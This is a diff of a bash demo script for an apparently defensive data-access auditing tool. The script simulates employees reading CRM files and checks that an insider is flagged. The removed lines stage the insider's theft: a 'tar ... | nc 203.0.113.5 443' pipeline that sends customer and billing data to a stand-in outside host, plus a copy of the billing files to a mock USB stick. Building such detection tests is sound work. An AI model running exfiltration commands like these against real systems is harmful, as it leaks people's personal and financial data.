@@ -1,37 +1,46 @@
 #!/bin/bash
-# The demo scenario, run inside the VM by `make demo` (tests/vm/run.sh --demo).
+# The demo, run inside the VM by `make demo` (tests/vm/run.sh --demo).
 #
-# A CRM server holds a generated customer data set.  Three people work on it
-# for two simulated working weeks: alice (support) looks customers up,
-# bob (DBA) runs exports, mallory (contractor) looks customers up too,
-# until one Thursday evening she copies the whole CRM to a host outside
-# and the billing files to a USB stick.  daudit.ko records every read,
-# dauditd collects and judges, and the review is printed as the person
-# who has to read it would see it.
+# Part 1 (tests/demo/crm.sh): an internal customer-lookup web service,
+# running as svc-crm over a PostgreSQL database of 100,000 customers, used
+# over HTTP by twenty employees for two working weeks; two of them page
+# through the whole customer table in the evenings, one also exports what
+# she pulled.  The service declares, per request, the employee it works
+# for (daudit_actor).
+# Part 2 (tests/demo/files.sh): the CRM's customer files, three people in
+# login sessions of their own for two more weeks, one insider.
 #
-# Exits 1 unless the review ranks mallory first, for reading the data and
-# sending it out, and flags neither alice nor bob.
+# daudit.ko records every read, dauditd collects and judges, and each
+# part's review is printed as the person who has to read it would see it.
+# Exits 1 unless both reviews are right (see each part's checks).
 set -euo pipefail
 
-# as_user, start_collector, settle_collector, stop_collector.
+# as_user, as_daemon, uid_of, start_collector, settle_collector, stop_collector.
 # shellcheck source=tests/kernel/lib.bash
 . /opt/daudit/tests/lib.bash
+# shellcheck source=tests/demo/crm.sh
+. /opt/daudit/demo/crm.sh
+# shellcheck source=tests/demo/files.sh
+. /opt/daudit/demo/files.sh
 
-CRM=/srv/crm
-CUST=$CRM/customers
-BILL=$CRM/billing
-SHARDS=300
-# The two simulated weeks, and the day of the incident (the last).
-DAYS=(2026-11-09 2026-11-10 2026-11-11 2026-11-12 2026-11-13
-	2026-11-16 2026-11-17 2026-11-18 2026-11-19)
-INCIDENT=2026-11-19
-REVIEW=(--since "$INCIDENT" --until 2026-11-20)
-REMOTE=203.0.113.5
 LOG=/var/log/dauditd.log
 RANDOM=20261109 # the same "random" behaviour on every run
+FAILED=0
 
 say() {
 	printf '\n== %s\n' "$*"
+	# How long each step took, on the VM's console (build/vm*/KVER/console.log).
+	# (The uptime: the clock jumps.)
+	echo "demo: $(cut -d' ' -f1 /proc/uptime)s: $*" >/dev/console
+}
+
+pass() {
+	echo "ok: $*"
+}
+
+fail() {
+	echo "FAILED: $*"
+	FAILED=$((FAILED + 1))
 }
 
 # at DAY HH:MM: set the VM's clock (see the introduction below).
@@ -41,253 +50,90 @@ at() {
 	date -s "$t" >/dev/null
 }
 
-# pick N: N customer files at random into PICKED (in this shell: a
-# subshell would reseed RANDOM).
-pick() {
-	local i f
-	PICKED=()
-	for ((i = 0; i < $1; i++)); do
-		printf -v f '%s/accounts-%03d.csv' "$CUST" $((RANDOM % SHARDS))
-		PICKED+=("$f")
-	done
-}
-
-# work USER TOOL FILE...: USER, in a login session of their own, runs TOOL
-# on FILE...: it opens and reads each file whole.
-work() {
-	local user=$1 tool=$2
-	shift 2
-	printf '%s\n' "$@" >/tmp/work.list
-	as_user "$user" "$tool" list /tmp/work.list >/dev/null
-}
-
 cat <<'INTRO'
-daudit demo: a CRM server, three users, two working weeks, one insider.
+daudit demo: one server, four simulated working weeks.
+  part 1: a customer-lookup web service over PostgreSQL, twenty employees
+          who reach it over HTTP, two of whom take the whole customer table
+  part 2: the CRM's customer files, three users, one insider
 
-Two weeks cannot pass in a demo.  Before each activity the VM's clock is
-set forward with `date -s` to the simulated day and time; the kernel
-stamps every record with that clock, so the times, working hours, daily
-totals and each user's baseline below are those of the simulated days.
-Only the pauses between activities are skipped.  The VM's local time is
-UTC.  The VM has no network: the "outside host" 203.0.113.5 is an address
-on its loopback interface, and the USB stick is a tmpfs on /media/usb0.
+Weeks cannot pass in a demo.  Before each activity the VM's clock is set
+forward to the simulated day and time (`date -s`); the kernel stamps every
+record with that clock, so the times, working hours, daily totals and each
+person's baseline below are those of the simulated days.  Only the pauses
+between activities are skipped.  The VM's local time is UTC.  The VM has no
+network: the employees' machines are addresses on its loopback interface,
+and so is the "outside host" 203.0.113.5 of part 2; the USB stick is a
+tmpfs on /media/usb0.
 INTRO
 
-# --- the customer data set --------------------------------------------------
+if ! crm_available; then
+	fail "part 1 needs PostgreSQL 15 and Python 3 with psycopg2 in the VM: on the host," \
+		"scripts/deps.sh demo (postgresql-15, python3-psycopg2), then make demo"
+	exit 1
+fi
 
-say "generating the customer data set under $CRM"
-mkdir -p "$CUST" "$BILL"
-awk -v seed=42 -v files="$SHARDS" -v rows=60 -v cust="$CUST" -v bill="$BILL" '
-function pick(a, n) { return a[int(rand() * n) + 1] }
-BEGIN {
-	srand(seed)
-	nf = split("Maria Jonas Sofia Lukas Emma Noah Mia Elias Hannah Paul Lea Ben Anna Felix Lena Max Laura Tim Julia Leon Sarah David Nina Jan Clara Tom Eva Luca Ida Finn Marie Karl Greta Otto", F, " ")
-	nl = split("Schneider Fischer Weber Meyer Wagner Becker Schulz Hoffmann Koch Richter Klein Wolf Neumann Schwarz Braun Zimmermann Hartmann Kruger Lange Werner Krause Lehmann Schmitt Walter Peters Vogel Jung Roth", L, " ")
-	ns = split("Linden_Street Station_Road Mill_Lane Church_Street Park_Avenue High_Street Garden_Way Oak_Road Bridge_Street Market_Square Castle_Hill Harbour_Road", S, " ")
-	nc = split("Berlin:10115:30 Hamburg:20095:40 Munich:80331:89 Cologne:50667:221 Frankfurt:60311:69 Stuttgart:70173:711 Leipzig:04109:341 Dresden:01067:351 Bremen:28195:421 Hanover:30159:511", C, " ")
-	for (f = 0; f < files; f++) {
-		out = sprintf("%s/accounts-%03d.csv", cust, f)
-		print "account_id,first_name,last_name,phone,email,street,city,postcode,country,customer_since,balance_eur" > out
-		for (r = 0; r < rows; r++) {
-			id++
-			fn = pick(F, nf); ln = pick(L, nl)
-			st = pick(S, ns); gsub("_", " ", st)
-			split(pick(C, nc), c, ":")
-			printf "AC-%07d,%s,%s,+49 %s %07d,%s.%s@example.com,%d %s,%s,%s,DE,%d-%02d-%02d,%.2f\n",
-				id, fn, ln, c[3], int(rand() * 10000000), tolower(fn), tolower(ln),
-				1 + int(rand() * 120), st, c[1], c[2], 2012 + int(rand() * 14),
-				1 + int(rand() * 12), 1 + int(rand() * 28), rand() * 5000 > out
-		}
-		close(out)
-	}
-	status[1] = "paid"; status[2] = "paid"; status[3] = "paid"; status[4] = "open"; status[5] = "overdue"
-	for (m = 1; m <= 11; m++) {
-		out = sprintf("%s/invoices-2026-%02d.csv", bill, m)
-		print "invoice_id,account_id,issued,due,amount_eur,iban,status" > out
-		for (r = 0; r < 1500; r++) {
-			inv++
-			printf "INV-2026-%06d,AC-%07d,2026-%02d-%02d,2026-%02d-%02d,%.2f,DE%02d %04d %04d %04d %04d %02d,%s\n",
-				inv, 1 + int(rand() * id), m, 1 + int(rand() * 28), m % 12 + 1, 1 + int(rand() * 28),
-				10 + rand() * 990, 10 + int(rand() * 90), int(rand() * 10000), int(rand() * 10000),
-				int(rand() * 10000), int(rand() * 10000), int(rand() * 100), pick(status, 5) > out
-		}
-		close(out)
-	}
-	printf "%d customers in %d files, %d invoices in 11 files\n", id, files, inv
-}'
-chmod -R a+rX "$CRM"
-echo "$(du -sk "$CRM" | cut -f1) KiB in all; a customer file begins:"
-head -n 3 "$CUST/accounts-000.csv" | sed 's/^/    /'
+# --- the server: data, policy, collector ------------------------------------
 
-# --- the server: tools, policy, collector -----------------------------------
+at "${CRM_DAYS[0]}" 07:00
+insmod /lib/modules/daudit.ko
+crm_setup
+files_setup
 
-say "the CRM's tools, the policy and the collector's configuration"
-# The CRM's client tools.  Here both are copies of the test suite's reader
-# program: they open and read the files they are given, as a real client
-# would.
-mkdir -p /usr/local/bin
-cp /opt/daudit/helpers/reader /usr/local/bin/crm-lookup
-cp /opt/daudit/helpers/reader /usr/local/bin/crm-export
-chmod 0755 /usr/local/bin/crm-lookup /usr/local/bin/crm-export
-export PATH=/usr/local/bin:$PATH
+say "the policy and the collector's configuration"
 mkdir -p /etc/daudit /var/lib/daudit
-cat >/etc/daudit/policy.conf <<POL
-# What daudit protects on this server.
-dataset customers {
-	tree $CUST
-}
-dataset billing {
-	tree $BILL
-}
-POL
-cat >/etc/daudit/dauditd.conf <<'CONF'
+{
+	echo "# What daudit protects on this server."
+	crm_policy
+	files_policy
+} >/etc/daudit/policy.conf
+cat >/etc/daudit/dauditd.conf <<CONF
 [collector]
 database = /var/lib/daudit/daudit.db
 policy = /etc/daudit/policy.conf
 
 [rules]
-# This data set is a few MB: judge a session that read 1 MiB of it and
-# then sent data out (the default, 10M, suits real data sets).
+# These data sets are a few MB: judge a session that read 1 MiB of them
+# and then sent data out (the default, 10M, suits real data sets).
 egress_read_bytes = 1M
 # The VM has no network: the outside host is an address on the loopback
-# interface, so sends to loopback count as egress here.
+# interface, so sends to loopback count as egress here.  (The web
+# service's answers to the employees are not: each goes to the client the
+# service declared for that request.)
 egress_loopback = yes
 
 [allowlist]
 # The programs that are meant to read each dataset.
-customers = /usr/local/bin/crm-lookup, /usr/local/bin/crm-export
-billing = /usr/local/bin/crm-export
+$(crm_allowlist)
+$(files_allowlist)
 CONF
 sed 's/^/    /' /etc/daudit/policy.conf
 echo "    (/etc/daudit/dauditd.conf: default rules and working hours, Mon-Fri 08:00-18:00;"
-echo "     crm-lookup and crm-export are the approved readers)"
+echo "     the allowlists: the service's interpreter for customers, crm-lookup and crm-export for the files)"
 
-say "loading daudit.ko and starting dauditd (simulated time from ${DAYS[0]})"
-at "${DAYS[0]}" 07:50
-insmod /lib/modules/daudit.ko
+say "loading the policy and starting dauditd (simulated time from ${CRM_DAYS[0]})"
+at "${CRM_DAYS[0]}" 07:50
 start_collector /etc/daudit/dauditd.conf "$LOG"
 unset DAUDIT_CONFIG # the CLI finds /etc/daudit/dauditd.conf itself
 tail -n 2 "$LOG" | sed 's/^/    /'
 
-# --- two working weeks -------------------------------------------------------
+# --- part 1: the web service ------------------------------------------------
 
-# A normal day.  alice answers customer calls: three sessions of a few
-# lookups.  bob runs the morning billing export (the month's invoices and a
-# range of customer files) and a smaller one after lunch.  mallory looks a
-# few customers up, morning and afternoon.
-normal_day() {
-	local day=$1 n first i f exported files=()
-	at "$day" "09:$((10 + RANDOM % 20))"
-	pick 3
-	work alice crm-lookup "${PICKED[@]}"
-	at "$day" "10:0$((RANDOM % 10))"
-	n=$((40 + RANDOM % 21))
-	first=$((RANDOM % (SHARDS - n)))
-	printf -v f '%s/invoices-2026-%02d.csv' "$BILL" $((RANDOM % 11 + 1))
-	files=("$f")
-	for ((i = first; i < first + n; i++)); do
-		printf -v f '%s/accounts-%03d.csv' "$CUST" "$i"
-		files+=("$f")
-	done
-	work bob crm-export "${files[@]}"
-	exported=${#files[@]}
-	at "$day" "10:$((30 + RANDOM % 20))"
-	pick 2
-	work mallory crm-lookup "${PICKED[@]}"
-	at "$day" "11:$((30 + RANDOM % 20))"
-	pick 2
-	work alice crm-lookup "${PICKED[@]}"
-	at "$day" "14:$((20 + RANDOM % 20))"
-	pick $((10 + RANDOM % 10))
-	work bob crm-export "${PICKED[@]}"
-	exported=$((exported + ${#PICKED[@]}))
-	at "$day" "15:$((10 + RANDOM % 30))"
-	pick 4
-	work alice crm-lookup "${PICKED[@]}"
-	at "$day" "16:$((10 + RANDOM % 30))"
-	pick 1
-	work mallory crm-lookup "${PICKED[@]}"
-	printf '  %s %s: alice 3 lookup sessions (9 files), bob 2 exports (%d files), mallory 2 lookup sessions (3 files)\n' \
-		"$(date -d "$day" +%a)" "$day" "$exported"
-	settle_collector
-}
+crm_run
+crm_review
 
-say "two working weeks of normal work"
-for day in "${DAYS[@]}"; do
-	normal_day "$day"
-done
+# --- part 2: the files --------------------------------------------------------
 
-say "$(date -d "$INCIDENT" +%A) $INCIDENT, in the evening: mallory"
-# The outside host: a listener on $REMOTE:443.  Its stdin stays open (a
-# FIFO held by this shell): busybox nc stops at the end of its stdin.
-ip addr add "$REMOTE/32" dev lo
-mkfifo /run/remote.fifo
-nc -l -p 443 </run/remote.fifo >/root/received.tar 3>&- &
-listener=$!
-exec 7>/run/remote.fifo
-for _ in $(seq 50); do netstat -ltn | grep -q ':443 ' && break; sleep 0.1; done
-
-at "$INCIDENT" 21:40
-echo "  $(date +%H:%M) tar cf - -C $CRM customers billing | nc $REMOTE 443"
-# shellcheck disable=SC2016 # the inner shell expands them
-as_user mallory bash -c 'tar cf - -C "$1" customers billing | nc "$2" 443' _ "$CRM" "$REMOTE" >/dev/null
-wait "$listener"
-exec 7>&-
-echo "        the outside host received $(stat -c %s /root/received.tar) bytes"
-
-mkdir -p /media/usb0
-mount -t tmpfs -o size=64m,uid=1004,gid=1004 usb0 /media/usb0
-at "$INCIDENT" 21:52
-echo "  $(date +%H:%M) cp $BILL/*.csv /media/usb0/"
-as_user mallory cp "$BILL"/*.csv /media/usb0/
-echo "        the USB stick holds $(du -sk /media/usb0 | cut -f1) KiB"
-settle_collector
-
-# --- the review ---------------------------------------------------------------
+files_run
+files_review
 
 say "daudit status"
 daudit status
-
-say "daudit users --since ${DAYS[0]} --until 2026-11-20   (the two weeks, per user)"
-daudit users --since "${DAYS[0]}" --until 2026-11-20
-
-say "daudit top --by bytes ${REVIEW[*]}   (the Thursday)"
-daudit top --by bytes "${REVIEW[@]}"
-
-say "daudit report --evidence 3 ${REVIEW[*]}   (the review of the Thursday)"
-daudit report --evidence 3 "${REVIEW[@]}"
-
 stop_collector TERM
 
-# --- the demo's own check -----------------------------------------------------
-
-say "demo check"
-r=$(daudit report --format json "${REVIEW[@]}")
-first=$(echo "$r" | jq -r '.users[0].user // "nobody"')
-rules=$(echo "$r" | jq -r '[.users[0].findings[]?.rule] | unique | join(" ")')
-others=$(echo "$r" | jq -r '[.users[1:][] | .user] | join(" ")')
-egress=$(daudit events --type egress --limit 0 --format json "${REVIEW[@]}" | jq length)
-ok=1
-if [ "$first" = mallory ]; then
-	echo "ok: mallory is ranked first ($rules)"
-else
-	echo "FAILED: the review ranks $first first, not mallory"
-	ok=0
-fi
-if [[ " $rules " = *" read_then_egress "* ]]; then
-	echo "ok: her findings include read_then_egress (the data she read left the machine)"
-else
-	echo "FAILED: no read_then_egress finding for mallory; the sensor wrote $egress egress records that day"
-	ok=0
-fi
-if [ -z "$others" ]; then
-	echo "ok: alice and bob, working as usual, raise no finding"
-else
-	echo "FAILED: findings for $others too"
-	ok=0
-fi
-if [ "$ok" = 0 ]; then
-	echo "the collector's log:"
+say "the demo's verdict"
+if [ "$FAILED" -ne 0 ]; then
+	echo "$FAILED check(s) FAILED; the collector's log:"
 	sed 's/^/    /' "$LOG"
 	exit 1
 fi
+echo "every check passed"
